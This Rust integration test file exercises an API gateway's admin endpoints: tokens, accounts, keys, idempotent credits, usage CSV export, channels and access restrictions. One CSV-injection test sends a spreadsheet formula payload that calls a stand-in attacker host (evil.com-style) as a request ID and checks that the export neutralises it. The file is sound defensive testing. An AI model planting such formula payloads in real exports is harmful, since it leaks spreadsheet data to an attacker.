//! The admin API over real sockets (`docs/decisions.md`, "The admin API"): tokens and their
//! scopes, accounts and keys, idempotent credits, the usage log and its CSV, tasks, channels,
//! and the audit log of every change.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{TestGateway, unique};
use serde_json::{Value, json};

struct Admin<'a> {
    gw: &'a TestGateway,
    token: String,
}

impl Admin<'_> {
    async fn call(&self, method: &str, path: &str, body: Option<Value>) -> common::Reply {
        self.call_with(method, path, body, &[]).await
    }

    async fn call_with(
        &self,
        method: &str,
        path: &str,
        body: Option<Value>,
        extra: &[(&str, &str)],
    ) -> common::Reply {
        let auth = format!("Bearer {}", self.token);
        let mut headers = vec![("authorization", auth.as_str())];
        if body.is_some() {
            headers.push(("content-type", "application/json"));
        }
        headers.extend_from_slice(extra);
        let bytes = body
            .map(|b| serde_json::to_vec(&b).unwrap())
            .unwrap_or_default();
        self.gw.request(method, path, &headers, bytes).await
    }
}

/// The test models with the channel `primary` renamed to a name of this run's own (its name and
/// the configuration): a switch is written for every replica sharing the database, and on a
/// shared PostgreSQL other tests' gateways follow it.
fn own_primary() -> (String, String) {
    let primary = format!("primary-{}", unique());
    let config = common::MODELS.replace("\"primary\"", &format!("\"{primary}\""));
    (primary, config)
}

async fn admin(gw: &TestGateway, read_only: bool) -> Admin<'_> {
    let (_, token) = gw
        .store
        .create_admin_token(&format!("t-{}", unique()), read_only)
        .await
        .unwrap();
    Admin { gw, token }
}

#[tokio::test]
async fn tokens_open_only_their_own_door() {
    let gw = TestGateway::start().await;
    let full = admin(&gw, false).await;
    let (_, client_key) = gw.account("1").await;

    // No token, a client key, an unknown token: refused, in the OpenAI shape.
    let r = gw.request("GET", "/admin/v1/accounts", &[], "").await;
    assert_eq!(r.status, 401);
    assert!(
        r.json()["error"]["message"]
            .as_str()
            .unwrap()
            .contains("admin token")
    );
    let r = gw.get("/admin/v1/accounts", &client_key).await;
    assert_eq!(r.status, 401);
    assert!(
        r.json()["error"]["message"]
            .as_str()
            .unwrap()
            .contains("Client API keys")
    );
    let r = gw.get("/admin/v1/accounts", "tga-000000").await;
    assert_eq!(r.status, 401);

    // An admin token is not a client key.
    let r = gw
        .post_json(
            "/v1/embeddings",
            &full.token,
            &json!({"model": "text-embedding-3-small", "input": "x"}),
        )
        .await;
    assert_eq!(r.status, 401, "{}", String::from_utf8_lossy(&r.body));

    // A read-only token reads and may not change anything.
    let reader = admin(&gw, true).await;
    assert_eq!(
        reader.call("GET", "/admin/v1/accounts", None).await.status,
        200
    );
    let r = reader
        .call(
            "POST",
            "/admin/v1/accounts",
            Some(json!({"name": unique()})),
        )
        .await;
    assert_eq!(r.status, 403);
    assert_eq!(r.json()["error"]["code"], "read_only_token");

    // Issue 42: re-deriving every charge is a full token's to ask for; the audit itself reads.
    let r = reader
        .call("GET", "/admin/v1/audit?recompute=true", None)
        .await;
    assert_eq!(r.status, 403, "{}", r.text());
    assert_eq!(r.json()["error"]["param"], "recompute");
    assert_eq!(
        reader.call("GET", "/admin/v1/audit", None).await.status,
        200
    );
    assert_eq!(
        full.call("GET", "/admin/v1/audit?recompute=true", None)
            .await
            .status,
        200
    );

    // A revoked token is refused.
    gw.store
        .revoke_admin_token(&full.token_name().await)
        .await
        .unwrap();
    assert_eq!(
        full.call("GET", "/admin/v1/accounts", None).await.status,
        401
    );
    gw.stop().await;
}

impl Admin<'_> {
    async fn token_name(&self) -> String {
        self.gw
            .store
            .admin_token(&self.token)
            .await
            .unwrap()
            .unwrap()
            .name
    }
}

#[tokio::test]
async fn an_account_from_creation_to_a_refused_key() {
    let gw = TestGateway::start().await;
    let admin = admin(&gw, false).await;
    let name = format!("shop-{}", unique());

    let r = admin
        .call(
            "POST",
            "/admin/v1/accounts",
            Some(json!({"name": name, "balance": "0"})),
        )
        .await;
    assert_eq!(r.status, 201, "{}", String::from_utf8_lossy(&r.body));
    let created = r.json();
    let id = created["account"]["id"].as_str().unwrap().to_owned();
    let first_key = created["key"]["secret"].as_str().unwrap().to_owned();
    assert!(first_key.starts_with("tg-"));

    // The same name again is a conflict; bad input names its field.
    let r = admin
        .call("POST", "/admin/v1/accounts", Some(json!({"name": name})))
        .await;
    assert_eq!(r.status, 409);
    let r = admin
        .call(
            "POST",
            "/admin/v1/accounts",
            Some(json!({"name": "x", "balance": "lots"})),
        )
        .await;
    assert_eq!(r.status, 400);
    assert_eq!(r.json()["error"]["param"], "balance");
    let r = admin
        .call(
            "POST",
            "/admin/v1/accounts",
            Some(json!({"name": "x", "colour": "red"})),
        )
        .await;
    assert_eq!(r.status, 400);

    // Found by id and by name; listed and searched.
    for path in [
        format!("/admin/v1/accounts/{id}"),
        format!("/admin/v1/accounts/{name}"),
    ] {
        let r = admin.call("GET", &path, None).await;
        assert_eq!(r.status, 200);
        assert_eq!(r.json()["id"], id.as_str());
        assert_eq!(r.json()["balance"], "0");
    }
    let r = admin
        .call("GET", &format!("/admin/v1/accounts?search={name}"), None)
        .await;
    assert_eq!(r.json()["total"], 1);
    assert_eq!(r.json()["data"][0]["name"], name.as_str());

    // A credit needs a reason; with an Idempotency-Key it happens once.
    let credits = format!("/admin/v1/accounts/{id}/credits");
    let r = admin
        .call("POST", &credits, Some(json!({"amount": "1.5"})))
        .await;
    assert_eq!(r.status, 400);
    assert_eq!(r.json()["error"]["param"], "reason");
    // Idempotency keys are the database's: on a shared PostgreSQL, one of this run's own.
    let payment = format!("pi_{}", unique());
    let body = json!({"amount": "1.5", "reason": format!("payment {payment}")});
    let once = [("idempotency-key", payment.as_str())];
    let r = admin
        .call_with("POST", &credits, Some(body.clone()), &once)
        .await;
    assert_eq!(r.status, 201);
    let ledger_id = r.json()["ledger_id"].as_str().unwrap().to_owned();
    let r = admin
        .call_with("POST", &credits, Some(body.clone()), &once)
        .await;
    assert_eq!(r.status, 200, "a retried webhook");
    assert_eq!(r.json()["replayed"], true);
    assert_eq!(r.json()["ledger_id"], ledger_id.as_str());
    assert_eq!(r.headers["idempotent-replayed"], "true");
    assert_eq!(gw.balance(&id).await.to_string(), "1.5");
    // The key reused for another credit is refused, not applied.
    let r = admin
        .call_with(
            "POST",
            &credits,
            Some(json!({"amount": "9", "reason": format!("payment {payment}")})),
            &once,
        )
        .await;
    assert_eq!(r.status, 409);
    assert_eq!(gw.balance(&id).await.to_string(), "1.5");
    // A correction below zero needs allow_negative.
    let r = admin
        .call(
            "POST",
            &credits,
            Some(json!({"amount": "-2", "reason": "typo"})),
        )
        .await;
    assert_eq!(r.status, 400);
    assert_eq!(r.json()["error"]["param"], "allow_negative");

    // A new key works, is charged, shows in the usage log; revoked, it is refused.
    let r = admin
        .call(
            "POST",
            &format!("/admin/v1/accounts/{id}/keys"),
            Some(json!({"name": "ci"})),
        )
        .await;
    assert_eq!(r.status, 201);
    let key = r.json();
    let secret = key["secret"].as_str().unwrap().to_owned();
    let key_id = key["id"].as_str().unwrap().to_owned();
    let embed = json!({"model": "text-embedding-3-small", "input": "hello admin"});
    let r = gw.post_json("/v1/embeddings", &secret, &embed).await;
    assert_eq!(r.status, 200);
    gw.settled(&id).await;
    let r = admin
        .call("GET", &format!("/admin/v1/usage?account={id}"), None)
        .await;
    let records = r.json()["data"].as_array().unwrap().clone();
    assert_eq!(records.len(), 1);
    assert_eq!(records[0]["key_id"], key_id.as_str());
    assert_eq!(records[0]["status"], 200);
    let charge: tollgate_billing::Amount = records[0]["charge"].as_str().unwrap().parse().unwrap();
    assert!(charge.is_positive());
    assert_eq!(
        gw.balance(&id).await,
        "1.5"
            .parse::<tollgate_billing::Amount>()
            .unwrap()
            .checked_sub(charge)
            .unwrap()
    );
    let r = admin
        .call("POST", &format!("/admin/v1/keys/{key_id}/revoke"), None)
        .await;
    assert_eq!(r.status, 200);
    let r = gw.post_json("/v1/embeddings", &secret, &embed).await;
    assert_eq!(
        r.status, 401,
        "a revoked key is refused at once on this replica, as a key that no longer exists"
    );
    assert_eq!(r.json()["error"]["code"], "invalid_api_key");

    // Rotation: the new key works with the old one's label; the old one is refused.
    let r = admin
        .call(
            "POST",
            &format!("/admin/v1/keys/{}/rotate", first_key_id(&admin, &id).await),
            None,
        )
        .await;
    assert_eq!(r.status, 201);
    let rotated = r.json()["secret"].as_str().unwrap().to_owned();
    assert_eq!(
        gw.post_json("/v1/embeddings", &rotated, &embed)
            .await
            .status,
        200
    );
    assert_eq!(
        gw.post_json("/v1/embeddings", &first_key, &embed)
            .await
            .status,
        401
    );

    // Disabled, every key of the account is refused.
    let r = admin
        .call("POST", &format!("/admin/v1/accounts/{id}/disable"), None)
        .await;
    assert_eq!(r.json()["disabled"], true);
    assert_eq!(
        gw.post_json("/v1/embeddings", &rotated, &embed)
            .await
            .status,
        403
    );

    // The ledger lists the credit and the charge; the audit log every change, newest first.
    gw.settled(&id).await;
    let r = admin
        .call("GET", &format!("/admin/v1/accounts/{id}/ledger"), None)
        .await;
    let kinds: Vec<String> = r.json()["data"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["kind"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(kinds, ["charge", "charge", "credit"]);
    let r = admin
        .call("GET", &format!("/admin/v1/changes?target={id}"), None)
        .await;
    let actions: Vec<String> = r.json()["data"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["action"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(
        actions,
        ["account.disable", "account.credit", "account.create"]
    );
    let credit = &r.json()["data"][1];
    assert_eq!(credit["before"]["balance"], "0");
    assert_eq!(credit["after"]["balance"], "1.5");
    assert!(credit["actor"].as_str().unwrap().starts_with("token:"));
    gw.stop().await;
}

async fn first_key_id(admin: &Admin<'_>, account: &str) -> String {
    let r = admin
        .call("GET", &format!("/admin/v1/accounts/{account}/keys"), None)
        .await;
    r.json()["data"][0]["id"].as_str().unwrap().to_owned()
}

#[tokio::test]
async fn concurrent_credits_with_one_idempotency_key_credit_once() {
    let gw = TestGateway::start().await;
    let admin = admin(&gw, false).await;
    let (id, _) = gw.account("0").await;
    let path = format!("/admin/v1/accounts/{id}/credits");
    let key = format!("webhook-{}", unique());
    let body = json!({"amount": "2", "reason": "top-up"});
    let headers = [("idempotency-key", key.as_str())];
    let calls = (0..8).map(|_| admin.call_with("POST", &path, Some(body.clone()), &headers));
    let replies = futures_util::future::join_all(calls).await;
    let created = replies.iter().filter(|r| r.status == 201).count();
    assert_eq!(
        created,
        1,
        "{:?}",
        replies.iter().map(|r| r.status).collect::<Vec<_>>()
    );
    assert!(replies.iter().all(|r| r.status == 201 || r.status == 200));
    assert_eq!(gw.balance(&id).await.to_string(), "2");
    gw.stop().await;
}

#[tokio::test]
async fn usage_csv_is_streamed_and_summaries_group() {
    let gw = TestGateway::start().await;
    let admin = admin(&gw, false).await;
    let (id, key) = gw.account("5").await;
    for i in 0..3 {
        let body = json!({"model": "text-embedding-3-small", "input": format!("text {i}")});
        assert_eq!(
            gw.post_json("/v1/embeddings", &key, &body).await.status,
            200
        );
    }
    gw.settled(&id).await;
    let r = admin
        .call("GET", &format!("/admin/v1/usage.csv?account={id}"), None)
        .await;
    assert_eq!(r.status, 200);
    assert!(
        r.headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let text = String::from_utf8(r.body.to_vec()).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 4, "{text}");
    assert!(lines[0].starts_with("time,kind,account"));

    // Issue 22 item 3: a client that chooses its X-Request-Id to be a spreadsheet formula gets
    // the gateway's own id instead, and nothing in the export starts a formula.
    let formula = r#"=HYPERLINK("https://evil.example/?k="&C2,"open")"#;
    let (evil, evil_key) = gw.account("1").await;
    let reply = gw
        .request(
            "POST",
            "/v1/embeddings",
            &[
                ("authorization", &format!("Bearer {evil_key}")),
                ("content-type", "application/json"),
                ("x-request-id", formula),
            ],
            serde_json::to_vec(&json!({"model": "text-embedding-3-small", "input": "x"})).unwrap(),
        )
        .await;
    assert_eq!(reply.status, 200);
    let id_used = reply.headers["x-request-id"].to_str().unwrap().to_owned();
    assert!(id_used.starts_with("req_"), "{id_used}");
    let kept = gw
        .request(
            "POST",
            "/v1/embeddings",
            &[
                ("authorization", &format!("Bearer {evil_key}")),
                ("content-type", "application/json"),
                ("x-request-id", "trace-01:a.b_c"),
            ],
            serde_json::to_vec(&json!({"model": "text-embedding-3-small", "input": "y"})).unwrap(),
        )
        .await;
    assert_eq!(kept.headers["x-request-id"], "trace-01:a.b_c");
    gw.settled(&evil).await;
    let r = admin
        .call("GET", &format!("/admin/v1/usage.csv?account={evil}"), None)
        .await;
    let text = String::from_utf8(r.body.to_vec()).unwrap();
    assert!(
        text.contains(&id_used) && text.contains("trace-01:a.b_c"),
        "{text}"
    );
    for cell in text.lines().skip(1).flat_map(|l| l.split(',')) {
        let cell = cell.trim_start_matches('"');
        assert!(
            !cell.starts_with(['=', '+', '@', '\t', '\r']),
            "a formula in the export: {cell:?} in {text}"
        );
    }
    let r = admin
        .call(
            "GET",
            &format!("/admin/v1/usage/summary?account={id}&group_by=model"),
            None,
        )
        .await;
    let rows = r.json()["data"].as_array().unwrap().clone();
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["group"], "text-embedding-3-small");
    assert_eq!(rows[0]["requests"], 3);
    // Paging: two pages of one and two.
    let r = admin
        .call(
            "GET",
            &format!("/admin/v1/usage?account={id}&limit=2"),
            None,
        )
        .await;
    let cursor = r.json()["next_cursor"].as_str().unwrap().to_owned();
    let r = admin
        .call(
            "GET",
            &format!("/admin/v1/usage?account={id}&limit=2&before={cursor}"),
            None,
        )
        .await;
    assert_eq!(r.json()["data"].as_array().unwrap().len(), 1);
    assert!(r.json()["next_cursor"].is_null());
    for (bad, status) in [
        ("group_by=week", 400),
        ("since=yesterday", 400),
        ("endpoint=nope", 400),
        ("account=nobody", 404),
    ] {
        let r = admin
            .call("GET", &format!("/admin/v1/usage/summary?{bad}"), None)
            .await;
        assert_eq!(r.status, status, "{bad}");
        assert!(r.json()["error"]["param"].is_string(), "{bad}");
    }
    let r = admin.call("GET", "/admin/v1/usage?limit=0", None).await;
    assert_eq!(r.json()["error"]["param"], "limit");
    let r = admin.call("GET", "/admin/v1/overview", None).await;
    assert_eq!(r.status, 200);
    assert!(r.json()["requests"].as_u64().unwrap() >= 3);
    gw.stop().await;
}

#[tokio::test]
async fn channels_report_health_and_can_be_switched_off() {
    let (primary, config) = own_primary();
    let gw = TestGateway::with_config(&config).await;
    let admin = admin(&gw, false).await;
    let (_, key) = gw.account("5").await;
    let body = json!({"model": "text-embedding-3-small", "input": "x"});
    assert_eq!(
        gw.post_json("/v1/embeddings", &key, &body).await.status,
        200
    );
    let r = admin.call("GET", "/admin/v1/channels", None).await;
    let channels = r.json()["data"].as_array().unwrap().clone();
    let used: Vec<&Value> = channels.iter().filter(|c| c["successes"] == 1).collect();
    assert_eq!(used.len(), 1, "{channels:?}");
    let name = used[0]["name"].as_str().unwrap().to_owned();
    assert_eq!(name, primary);
    assert_eq!(used[0]["circuit"], "closed");
    assert!(used[0]["latency_ms"]["p50"].is_u64());

    let r = admin
        .call("POST", &format!("/admin/v1/channels/{name}/disable"), None)
        .await;
    assert_eq!(r.status, 200);
    let r = gw.post_json("/v1/embeddings", &key, &body).await;
    assert_eq!(r.status, 503, "{}", String::from_utf8_lossy(&r.body));
    admin
        .call("POST", &format!("/admin/v1/channels/{name}/enable"), None)
        .await;
    assert_eq!(
        gw.post_json("/v1/embeddings", &key, &body).await.status,
        200
    );
    let r = admin
        .call("POST", "/admin/v1/channels/nope/disable", None)
        .await;
    assert_eq!(r.status, 404);

    let r = admin.call("GET", "/admin/v1/models", None).await;
    let models = r.json()["data"].as_array().unwrap().clone();
    assert!(
        models
            .iter()
            .any(|m| m["model"] == "text-embedding-3-small")
    );
    gw.stop().await;
}

#[tokio::test]
async fn policies_and_groups_through_the_api() {
    let gw = TestGateway::start().await;
    let admin = admin(&gw, false).await;
    let (id, key) = gw.account("5").await;
    let r = admin
        .call(
            "PATCH",
            &format!("/admin/v1/accounts/{id}/policy"),
            Some(json!({"endpoints": ["speech"]})),
        )
        .await;
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
    assert_eq!(r.json()["endpoints"], json!(["speech"]));
    let body = json!({"model": "text-embedding-3-small", "input": "x"});
    assert_eq!(
        gw.post_json("/v1/embeddings", &key, &body).await.status,
        403
    );
    let r = admin
        .call(
            "PATCH",
            &format!("/admin/v1/accounts/{id}/policy"),
            Some(json!({"rpm": 0})),
        )
        .await;
    assert_eq!(r.status, 400);
    assert_eq!(r.json()["error"]["param"], "rpm");
    let r = admin
        .call("DELETE", &format!("/admin/v1/accounts/{id}/policy"), None)
        .await;
    assert_eq!(r.status, 200);
    assert_eq!(
        gw.post_json("/v1/embeddings", &key, &body).await.status,
        200
    );

    let group = format!("g-{}", unique());
    let r = admin
        .call(
            "PUT",
            &format!("/admin/v1/groups/{group}"),
            Some(json!({"multiplier": "0.5", "models": {"tts-1": "2"}})),
        )
        .await;
    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
    assert_eq!(r.json()["models"]["tts-1"], "2");
    let r = admin
        .call(
            "PUT",
            &format!("/admin/v1/groups/{group}"),
            Some(json!({"multiplier": "-1"})),
        )
        .await;
    assert_eq!(r.status, 400);
    assert_eq!(r.json()["error"]["param"], "multiplier");
    gw.stop().await;
}

#[tokio::test]
async fn unknown_admin_routes_and_bad_bodies() {
    let gw = TestGateway::start().await;
    let admin = admin(&gw, false).await;
    let r = admin.call("GET", "/admin/v1/nothing", None).await;
    assert_eq!(r.status, 404);
    let r = admin.call("GET", "/admin/v1/accounts/nobody", None).await;
    assert_eq!(r.status, 404);
    let r = admin.call("GET", "/admin/v1/tasks/nope", None).await;
    assert_eq!(r.status, 404);
    let r = gw
        .request(
            "POST",
            "/admin/v1/accounts",
            &[
                ("authorization", &format!("Bearer {}", admin.token)),
                ("content-type", "application/json"),
            ],
            "[1]",
        )
        .await;
    assert_eq!(r.status, 400);
    let big = format!("{{\"name\": \"{}\"}}", "x".repeat(100_000));
    let r = gw
        .request(
            "POST",
            "/admin/v1/accounts",
            &[
                ("authorization", &format!("Bearer {}", admin.token)),
                ("content-type", "application/json"),
            ],
            big,
        )
        .await;
    assert_eq!(r.status, 413);
    let r = gw.request("GET", "/openapi.json", &[], "").await;
    assert_eq!(r.status, 200);
    assert_eq!(r.json()["openapi"], "3.1.0");
    let r = gw.request("GET", "/console", &[], "").await;
    assert_eq!(r.status, 200);
    let csp = r.headers["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("default-src 'self'"), "{csp}");
    // Issue 22 item 5: scripts only from the gateway's own files, never inline.
    assert!(csp.contains("script-src 'self';"), "{csp}");
    assert!(!csp.contains("script-src 'self' 'unsafe-inline'"), "{csp}");
    let page = String::from_utf8_lossy(&r.body).into_owned();
    assert!(page.contains(r#"<script src="/console/console.js" defer></script>"#));
    assert!(!page.contains("<script>"), "no inline script left");
    let script = gw.request("GET", "/console/console.js", &[], "").await;
    assert_eq!(script.status, 200);
    assert!(
        script.headers["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/javascript")
    );
    assert!(String::from_utf8_lossy(&script.body).contains("const API = \"/admin/v1\""));
    gw.stop().await;
}

/// Issue 22 item 5: every answer of the operator's side — a new account's key, a refusal, the
/// console — says `Cache-Control: no-store`.
#[tokio::test]
async fn the_operators_side_is_never_cached() {
    let gw = TestGateway::start().await;
    let admin = admin(&gw, false).await;
    let created = admin
        .call(
            "POST",
            "/admin/v1/accounts",
            Some(json!({"name": format!("nostore-{}", common::unique()), "balance": "1"})),
        )
        .await;
    assert_eq!(created.status, 201);
    assert!(created.json()["key"]["secret"].is_string());
    let refused = gw.request("GET", "/admin/v1/accounts", &[], "").await;
    assert_eq!(refused.status, 401);
    for r in [
        &created,
        &refused,
        &gw.request("GET", "/console", &[], "").await,
        &gw.request("GET", "/console/console.js", &[], "").await,
    ] {
        assert_eq!(r.headers["cache-control"], "no-store", "{:?}", r.headers);
    }
    gw.stop().await;
}

#[tokio::test]
async fn every_documented_admin_operation_is_served() {
    let gw = TestGateway::start().await;
    let admin = admin(&gw, true).await;
    let doc: Value = tollgate_admin::openapi::document(&tollgate_gateway::routes::TABLE.specs());
    for (path, item) in doc["paths"].as_object().unwrap() {
        let Some(rest) = path.strip_prefix("/admin/v1/") else {
            continue;
        };
        let concrete = format!(
            "/admin/v1/{}",
            rest.replace("{id}", "x").replace("{name}", "x")
        );
        for method in item.as_object().unwrap().keys() {
            if method == "parameters" {
                continue;
            }
            // A read-only token: reads answer, changes are refused as changes (not as unknown).
            let r = admin.call(&method.to_uppercase(), &concrete, None).await;
            assert!(r.status < 500, "{method} {concrete}: {}", r.status);
            if r.status >= 400 {
                let code = r.json()["error"]["code"].clone();
                assert_ne!(code, "unknown_url", "{method} {concrete}");
            }
        }
    }
    gw.stop().await;
}

#[tokio::test]
async fn admin_networks_keep_the_operators_side_to_its_networks() {
    let config = format!(
        "{}\n[server]\ndrain_seconds = 0\nadmin_networks = [\"10.0.0.0/8\"]\n",
        common::MODELS
    );
    let gw = TestGateway::with_config(&config).await;
    let admin = admin(&gw, false).await;
    // The test client is 127.0.0.1: not an admin network.
    let r = admin.call("GET", "/admin/v1/accounts", None).await;
    assert_eq!(r.status, 403);
    assert_eq!(r.json()["error"]["code"], "network_not_allowed");
    assert_eq!(gw.request("GET", "/console", &[], "").await.status, 403);
    // Issue 22 item 7: nor are what the gateway counts and how it is built.
    for path in ["/metrics", "/openapi.json"] {
        let r = gw.request("GET", path, &[], "").await;
        assert_eq!(r.status, 403, "{path}");
        assert_eq!(r.json()["error"]["code"], "network_not_allowed", "{path}");
    }
    // Health checks are.
    assert_eq!(gw.request("GET", "/healthz", &[], "").await.status, 200);
    // Client routes are not affected.
    let (_, key) = gw.account("1").await;
    let body = json!({"model": "text-embedding-3-small", "input": "x"});
    assert_eq!(
        gw.post_json("/v1/embeddings", &key, &body).await.status,
        200
    );
    gw.stop().await;
}

/// A failing channel's circuit opens after five failures in a row; while it is open the channel
/// is still tried when no other channel answers (a model with one channel is not refused for
/// 30 s), and a success closes it again.
#[tokio::test]
async fn an_open_circuit_is_tried_last_not_never() {
    let (primary, config) = own_primary();
    let gw = TestGateway::with_config(&config).await;
    let admin = admin(&gw, true).await;
    let (_, key) = gw.account("5").await;
    let body = json!({"model": "text-embedding-3-small", "input": "x"});
    gw.set_knobs(tollgate_sim::KnobSettings {
        fail_status: Some(503),
        fail_times: Some(5),
        ..tollgate_sim::KnobSettings::default()
    });
    for _ in 0..5 {
        assert_eq!(
            gw.post_json("/v1/embeddings", &key, &body).await.status,
            502
        );
    }
    let health = |r: common::Reply| {
        r.json()["data"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["name"] == primary.as_str())
            .unwrap()
            .clone()
    };
    let channel = health(admin.call("GET", "/admin/v1/channels", None).await);
    assert_eq!(channel["circuit"], "open");
    assert_eq!(channel["failures_in_a_row"], 5);
    // The upstream recovered: the only channel is tried though its circuit is open.
    assert_eq!(
        gw.post_json("/v1/embeddings", &key, &body).await.status,
        200
    );
    let channel = health(admin.call("GET", "/admin/v1/channels", None).await);
    assert_eq!(channel["circuit"], "closed");
    assert_eq!(
        (channel["successes"].as_u64(), channel["failures"].as_u64()),
        (Some(1), Some(5))
    );
    gw.stop().await;
}

/// Issue 42 item 9. The adversary: a client that chooses its own `x-request-id` — the same as
/// another account's request. The operator's view of that id (`/admin/v1/requests/{id}`,
/// `tollgate explain`) merged both accounts' charges as one request's; it now tells them apart,
/// and each client still sees its own charge only.
#[tokio::test]
async fn a_request_id_two_accounts_chose_keeps_their_charges_apart() {
    let gw = TestGateway::start().await;
    let full = admin(&gw, false).await;
    let shared = format!("shared-{}", unique());
    let mut accounts = Vec::new();
    for input in [
        "first",
        "a much longer second input, so that the charges differ",
    ] {
        let (account, key) = gw.account("1").await;
        let r = gw
            .request(
                "POST",
                "/v1/embeddings",
                &[
                    ("authorization", &format!("Bearer {key}")),
                    ("content-type", "application/json"),
                    ("x-request-id", &shared),
                ],
                serde_json::to_vec(&json!({"model": "text-embedding-3-small", "input": input}))
                    .unwrap(),
            )
            .await;
        assert_eq!(r.status, 200, "{}", r.text());
        gw.settled(&account).await;
        let own = gw.get(&format!("/v1/charges/{shared}"), &key).await.json();
        assert_eq!(own["data"].as_array().unwrap().len(), 1, "{own}");
        accounts.push((account, own["charged"].as_str().unwrap().to_owned()));
    }
    let seen = full
        .call("GET", &format!("/admin/v1/requests/{shared}"), None)
        .await
        .json();
    let by_account = seen["accounts"].as_array().unwrap();
    assert_eq!(by_account.len(), 2, "{seen:#}");
    for (account, charged) in &accounts {
        let row = by_account
            .iter()
            .find(|a| a["account_id"] == account.as_str())
            .unwrap_or_else(|| panic!("{account} in {seen:#}"));
        assert_eq!(row["charged"], charged.as_str(), "{seen:#}");
    }
    assert!(
        seen["data"]
            .as_array()
            .unwrap()
            .iter()
            .all(|c| c["account_id"].is_string()),
        "{seen:#}"
    );
    gw.stop().await;
}
